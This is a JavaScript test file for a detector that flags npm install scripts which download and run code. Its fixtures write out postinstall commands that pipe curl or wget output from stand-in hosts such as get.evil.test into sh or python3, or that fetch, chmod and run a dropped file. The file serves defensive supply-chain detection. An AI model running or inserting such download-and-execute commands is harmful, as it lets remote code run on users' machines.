import { test } from 'node:test';
import assert from 'node:assert/strict';
import { downloadExecuteRule } from '../../src/rules/download-execute.js';
import { ChainBuilder, PROJECT } from './chain-builder.js';
import { run } from './helpers.js';

test('download-execute: curl | sh is critical, citing the shell, curl and its traffic', () => {
  const b = new ChainBuilder();
  const s = b.pkg('piper').script('postinstall', 'curl -fsSL https://get.evil.test/i.sh | sh');
  const curl = s.process(['curl', '-fsSL', 'https://get.evil.test/i.sh']);
  const lookup = s.dns(curl, 'get.evil.test', ['192.0.2.5']);
  const conn = s.connect(curl, '192.0.2.5', 443, { result: 'ok', hostname: 'get.evil.test' });
  const sh = s.process(['sh'], { exe: '/bin/sh' });
  const findings = run(downloadExecuteRule, b.build());
  assert.equal(findings.length, 1);
  assert.equal(findings[0]?.severity, 'critical');
  assert.deepEqual(findings[0]?.evidence, [sh.id, curl.id, conn.id, lookup.id]);
  assert.equal(findings[0]?.message, 'pipes what curl fetched from get.evil.test (192.0.2.5:443) into sh');
});

test('download-execute: wget -O- | python3 - and bash -s count as well', () => {
  const b = new ChainBuilder();
  const s = b.pkg('piper').script('postinstall', 'wget -qO- http://x.test/p | python3 -');
  s.process(['wget', '-qO-', 'http://x.test/p']);
  s.process(['python3', '-'], { exe: '/usr/bin/python3' });
  const t = b.pkg('piper2').script('postinstall', 'curl x | bash -s -- --quiet');
  t.process(['curl', 'http://x.test/p']);
  t.process(['bash', '-s', '--', '--quiet'], { exe: '/usr/bin/bash' });
  assert.equal(run(downloadExecuteRule, b.build(), 'node_modules/piper')[0]?.severity, 'critical');
  assert.equal(run(downloadExecuteRule, b.build(), 'node_modules/piper2')[0]?.severity, 'critical');
});

test('download-execute: a downloaded file made executable and run is critical, with the chmod as evidence', () => {
  const b = new ChainBuilder();
  const s = b.pkg('dropper').script('postinstall', 'curl -so /tmp/.x https://cdn.evil.test/x && chmod +x /tmp/.x && /tmp/.x');
  const curl = s.process(['curl', '-so', '/tmp/.x', 'https://cdn.evil.test/x']);
  const write = s.file(curl, 'create', '/tmp/.x', { mode: '0666' });
  const conn = s.connect(curl, '192.0.2.6', 443, { result: 'ok', hostname: 'cdn.evil.test' });
  const chmod = s.process(['chmod', '+x', '/tmp/.x']);
  const mode = s.file(chmod, 'chmod', '/tmp/.x', { mode: '0755', syscall: 'fchmodat' });
  const payload = s.process(['/tmp/.x'], { exe: '/tmp/.x' });
  const exec = s.file(payload, 'exec', '/tmp/.x', { syscall: 'execve', time: payload.images[0]?.time });
  const [finding, ...rest] = run(downloadExecuteRule, b.build());
  assert.equal(rest.length, 0);
  assert.equal(finding?.severity, 'critical');
  assert.equal(finding?.message, 'runs /tmp/.x, which curl downloaded; made executable (chmod 0755)');
  for (const id of [write.id, conn.id, mode.id, payload.id, exec.id, curl.id]) assert.ok(finding?.evidence.includes(id), id);
});

test('download-execute: node writing a script in /tmp and running it is high; with a fetch first, critical', () => {
  const b = new ChainBuilder();
  const s = b.pkg('stager').script('postinstall', 'node index.js', { wrapperExecs: ['node', 'index.js'] });
  const write = s.file(s.root, 'create', '/tmp/stage2.js', { mode: '0644' });
  const stage2 = s.process(['node', '/tmp/stage2.js'], { exe: '/usr/local/bin/node' });
  const [finding] = run(downloadExecuteRule, b.build());
  assert.equal(finding?.severity, 'high');
  assert.deepEqual(finding?.evidence, [write.id, stage2.id]);
  assert.equal(finding?.message, 'runs with node /tmp/stage2.js, which node wrote during the install outside any package folder');

  const f = new ChainBuilder();
  const t = f.pkg('stager').script('postinstall', 'node index.js', { wrapperExecs: ['node', 'index.js'] });
  t.connect(t.root, '192.0.2.7', 443, { result: 'ok', hostname: 'c2.evil.test' });
  t.file(t.root, 'create', `${t.pkg.dir}/lib/update.js`, { mode: '0644' });
  t.process(['node', '-r', './lib/update.js', 'main.js'], { exe: '/usr/local/bin/node' });
  const [fetched] = run(downloadExecuteRule, f.build());
  assert.equal(fetched?.severity, 'critical');
  assert.match(fetched?.message ?? '', /^preloads into node lib\/update\.js, which node wrote after contacting c2\.evil\.test/);
});

test('download-execute: a require of a dropped .js (a read by node) is a load', () => {
  const b = new ChainBuilder();
  const s = b.pkg('loader').script('postinstall', 'node index.js', { wrapperExecs: ['node', 'index.js'] });
  s.file(s.root, 'create', `${PROJECT}/../.cache-x/hook.js`, { mode: '0644' });
  const load = s.file(s.root, 'read', `${PROJECT}/../.cache-x/hook.js`);
  s.file(s.root, 'read', '/tmp/data.json');
  const [finding, ...rest] = run(downloadExecuteRule, b.build());
  assert.equal(rest.length, 0);
  assert.equal(finding?.severity, 'high');
  assert.ok(finding?.evidence.includes(load.id));
  assert.match(finding?.message ?? '', /^loads into node ~\/code\/\.cache-x\/hook\.js/);
});

test('download-execute: unpacking a fetched archive and running what came out is critical', () => {
  const b = new ChainBuilder();
  const s = b.pkg('unpacker').script('postinstall', 'sh fetch.sh');
  const curl = s.process(['curl', '-o', '/tmp/t.tgz', 'http://203.0.113.8/t.tgz']);
  s.file(curl, 'create', '/tmp/t.tgz', { mode: '0666' });
  s.connect(curl, '203.0.113.8', 80, { result: 'ok' });
  curl.endedAt = b.tick(); // `curl -o … && tar x`: one after the other, not a pipeline
  const tar = s.process(['tar', 'xzf', '/tmp/t.tgz', '-C', '/tmp/t']);
  s.file(tar, 'read', '/tmp/t.tgz');
  s.file(tar, 'create', '/tmp/t/run.sh', { mode: '0755' });
  s.process(['sh', '/tmp/t/run.sh'], { exe: '/bin/sh' });
  const [finding] = run(downloadExecuteRule, b.build());
  assert.equal(finding?.severity, 'critical');
  assert.match(finding?.message ?? '', /, which tar unpacked from \/tmp\/t\.tgz, which curl downloaded$/);
});

test('download-execute: a file dropped by another package is reported on the package that runs it, citing both', () => {
  const b = new ChainBuilder();
  const a = b.pkg('innocent-looking').script('postinstall', 'node a.js', { wrapperExecs: ['node', 'a.js'] });
  const drop = a.file(a.root, 'create', '/var/tmp/.p.js', { mode: '0644' });
  const c = b.pkg('runner').script('postinstall', 'node /var/tmp/.p.js');
  const p = c.process(['node', '/var/tmp/.p.js'], { exe: '/usr/local/bin/node' });
  const chain = b.build();
  assert.deepEqual(run(downloadExecuteRule, chain, 'node_modules/innocent-looking'), []);
  const [finding] = run(downloadExecuteRule, chain, 'node_modules/runner');
  assert.deepEqual(finding?.evidence, [drop.id, p.id]);
  assert.match(finding?.message ?? '', /which node \(package innocent-looking\) wrote during the install/);
});

test('download-execute: build outputs, linked shipped binaries and generated scripts do not fire', () => {
  const b = new ChainBuilder();
  // node-gyp: the compiler writes the addon and a test program, make runs it; gyp's python symlink.
  const addon = b.pkg('addon').script('install', 'node-gyp rebuild', { implicit: true });
  const gyp = addon.process(['node', '/usr/local/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'], { exe: '/usr/local/bin/node' });
  addon.file(gyp, 'link', `${addon.pkg.dir}/build/node_gyp_bins/python3`, { target: '/usr/bin/python3', syscall: 'symlink' });
  addon.process([`${addon.pkg.dir}/build/node_gyp_bins/python3`, 'gyp_main.py'], { parent: gyp, exe: `${addon.pkg.dir}/build/node_gyp_bins/python3` });
  const make = addon.process(['make', '-C', 'build'], { parent: gyp });
  const ld = addon.process(['ld', '-o', 'Release/addon.node'], { parent: make });
  addon.file(ld, 'create', `${addon.pkg.dir}/build/Release/addon.node`, { mode: '0755' });
  addon.file(ld, 'create', '/tmp/conftest', { mode: '0755' });
  addon.process(['/tmp/conftest'], { parent: make, exe: '/tmp/conftest' });
  addon.process(['node', '-e', "require('./build/Release/addon.node')"], { parent: make, exe: '/usr/local/bin/node' });

  // esbuild: hard-links the platform package's shipped binary into its bin/, then runs it.
  b.pkg('@esbuild/linux-x64', '0.25.0', { location: 'node_modules/@esbuild/linux-x64' });
  const esb = b.pkg('esbuild', '0.25.0').script('postinstall', 'node install.js', { wrapperExecs: ['node', 'install.js'] });
  esb.file(esb.root, 'link', `${esb.pkg.dir}/bin/esbuild__`, { target: `${PROJECT}/node_modules/@esbuild/linux-x64/bin/esbuild`, syscall: 'linkat' });
  esb.file(esb.root, 'rename', `${esb.pkg.dir}/bin/esbuild__`, { target: `${esb.pkg.dir}/bin/esbuild`, syscall: 'rename' });
  esb.process([`${esb.pkg.dir}/bin/esbuild`, '--version'], { exe: `${esb.pkg.dir}/bin/esbuild` });

  // A package generating a script in its own folder and running it; a dependent loading another
  // package's build output; data files read by node.
  const gen = b.pkg('gen').script('postinstall', 'node gen.js', { wrapperExecs: ['node', 'gen.js'] });
  gen.file(gen.root, 'create', `${gen.pkg.dir}/out/run.sh`, { mode: '0755' });
  gen.file(gen.root, 'create', `${gen.pkg.dir}/dist/index.js`, { mode: '0644' });
  gen.process(['sh', 'out/run.sh'], { exe: '/bin/sh' });
  const user = b.pkg('user').script('postinstall', 'node build.js', { wrapperExecs: ['node', 'build.js'] });
  user.file(user.root, 'read', `${gen.pkg.dir}/dist/index.js`);
  user.file(user.root, 'create', '/tmp/cfg.json', { mode: '0644' });
  user.file(user.root, 'read', '/tmp/cfg.json');

  const chain = b.build();
  for (const { info } of chain.packages) assert.deepEqual(run(downloadExecuteRule, chain, info.location), [], info.name);
});

test('download-execute: a cached copy of an installed package’s binary, loaded by the process that copied it, is low', () => {
  const b = new ChainBuilder();
  b.pkg('@swc/core-linux-x64-gnu', '1.16.22', { location: 'node_modules/@swc/core-linux-x64-gnu' });
  const s = b.pkg('@swc/core', '1.16.22').script('postinstall', 'node postinstall.js');
  const node = s.process(['node', 'postinstall.js']);
  const source = `${PROJECT}/node_modules/@swc/core-linux-x64-gnu/swc.linux-x64-gnu.node`;
  const cached = '/home/alex/.cache/swc-native-1000/v1/072bb3.node';
  s.file(node, 'read', source);
  s.file(node, 'create', cached);
  s.file(node, 'read', cached);
  const findings = run(downloadExecuteRule, b.build(), 'node_modules/@swc/core');
  assert.deepEqual(findings.map((f) => f.severity), ['low']);
  assert.match(findings[0]?.message ?? '', /after reading .*swc\.linux-x64-gnu\.node of an installed package/);

  // The same write without the read of a package's binary is a drop, and stays high.
  const c = new ChainBuilder();
  const t = c.pkg('dropper').script('postinstall', 'node x.js');
  const n = t.process(['node', 'x.js']);
  t.file(n, 'create', cached);
  t.file(n, 'read', cached);
  assert.deepEqual(run(downloadExecuteRule, c.build(), 'node_modules/dropper').map((f) => f.severity), ['high']);
});
